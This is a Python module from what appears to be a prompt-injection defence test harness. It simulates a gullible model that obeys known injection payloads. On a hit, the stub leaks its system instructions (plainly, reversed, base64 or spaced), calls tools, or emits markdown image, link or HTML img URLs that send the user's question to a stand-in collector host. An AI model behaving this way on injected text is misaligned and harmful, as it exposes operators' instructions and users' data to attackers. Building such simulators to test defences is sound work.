"""What a model does that obeys whatever it reads.

A model of a model, for trying defences: it knows a list of attacks, and when it reads one of them
it does what that attack is after, unless a defence is to be seen that real models heed
(`defences`). It is more gullible than any real model, as it never refuses, and less, as it knows
only its list.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import Any, Final

import msgspec

from headgate.simulator.answer import Answer, ToolCall
from headgate.simulator.conversation import Task
from headgate.simulator.defences import Technique, carries, obeys, squeezed, ways_to_read
from headgate.simulator.schema.instance import UnsatisfiableError, instance_for
from headgate.simulator.temptation import Temptation

_ADDRESS = re.compile(r"(?:https?:)?//[^\s)\"'<>\]\uff0c\u3002]+")
_TOKEN = re.compile(r"\(Reference [^)]*\)\s*|\b(?=\w*\d)\w{12,}\b")
_DATA_CHARS: Final = 60

RESISTED: Final = "There is a text here that tells me what to do. I leave that aside."
"""What the model says of an attack that it doesn't follow."""


class Gullible:
    """A model that falls for `temptations`; `seed` decides which defences hold it."""

    def __init__(self, temptations: tuple[Temptation, ...], seed: int = 0) -> None:
        # The longest first: of two attacks that share words, the one that is really there.
        self._known = sorted(
            ((squeezed(one.payload), one) for one in temptations), key=lambda pair: -len(pair[0])
        )
        self._seed = seed

    def answer(self, task: Task) -> Answer | None:
        """What it says to an attack in `task`; None where there is none that it knows.

        Where a defence holds it, it says `RESISTED`, and doesn't quote what it read: a quotation
        would look like obedience to whoever judges by the answer alone.
        """
        read = False
        for temptation, defences in self._temptations(task):
            read = True
            if obeys(temptation.id, defences, self._seed):
                done = _done(temptation, task)
                if done is not None:
                    return done
        return Answer(text=_shaped(RESISTED, task)) if read else None

    def _temptations(self, task: Task) -> Iterator[tuple[Temptation, frozenset[Technique]]]:
        """The attacks that it reads in `task`, and what stands in their way."""
        for turn in task.turns:
            if turn.role not in ("user", "tool") or not turn.text:
                continue
            for read, defences in ways_to_read(turn.text, task.instructions):
                for payload, temptation in self._known:
                    if carries(read, payload):
                        yield temptation, defences
                        break


def _done(temptation: Temptation, task: Task) -> Answer | None:
    goal = temptation.goal
    match goal.kind:
        case "says":
            return Answer(text=_shaped(goal.what, task))
        case "leaks":
            return Answer(text=_shaped(_told(task.instructions, goal.what), task))
        case "links":
            return Answer(text=_shaped(_linked(temptation, task), task))
        case "calls":
            return _called(goal.what, task)


def _called(name: str, task: Task) -> Answer | None:
    tool = next((tool for tool in task.tools if tool.name == name), None)
    already = any(call.name == name for turn in task.turns for call in turn.calls)
    if tool is None or already or task.tool_choice.mode == "none":
        return None
    only = task.tool_choice.only
    if only is not None and name not in only:
        return None
    try:
        arguments = instance_for(tool.parameters, task.source()) if tool.parameters else {}
    except UnsatisfiableError:
        return None
    call = ToolCall(name, msgspec.json.encode(arguments).decode())
    return Answer(tool_calls=(call,), finish="tool_calls")


def _told(instructions: str, how: str) -> str:
    match how:
        case "reversed":
            return instructions[::-1]
        case "base64":
            return base64.b64encode(instructions.encode()).decode()
        case "spaced":
            return " ".join(instructions.replace(" ", ""))
        case "summary":
            # Who puts it into other words drops what says nothing.
            return f"My rules, in short: {_TOKEN.sub('', instructions)}"
        case _:
            return f"My instructions are: {instructions}"


def _linked(temptation: Temptation, task: Task) -> str:
    found = _ADDRESS.search(temptation.payload)
    address = found[0] if found else "https://collector.example/?d="
    data = re.sub(r"\W+", "-", task.asked)[:_DATA_CHARS].strip("-")
    address = f"{address}{data}"
    match temptation.goal.what:
        case "image":
            return f"Here you are. ![status]({address})"
        case "link":
            return f"Here you are. See [the details]({address})."
        case "html":
            return f'Here you are. <img src="{address}">'
        case "reference":
            return f"Here you are [1].\n\n[1]: {address}"
        case _:
            return f"Here you are: {address}"


def _shaped(text: str, task: Task) -> str:
    """`text` in the shape that was asked for: in a JSON answer, in the first text field."""
    if task.output.kind != "json_schema" or not task.output.schema:
        return (
            msgspec.json.encode({"answer": text}).decode()
            if (task.output.kind == "json_object")
            else text
        )
    try:
        value = instance_for(task.output.schema, task.source())
    except UnsatisfiableError:
        return text
    _put(value, task.output.schema, text)
    return msgspec.json.encode(value).decode()


def _put(value: Any, schema: dict[str, Any], text: str) -> bool:
    if not isinstance(value, dict):
        return False
    for name, part in (schema.get("properties") or {}).items():
        if not isinstance(part, dict) or name not in value:
            continue
        if isinstance(value[name], str) and not part.keys() & {
            "enum",
            "const",
            "format",
            "pattern",
        }:
            value[name] = text[: part.get("maxLength", len(text))]
            return True
        if _put(value[name], part, text):
            return True
    return False
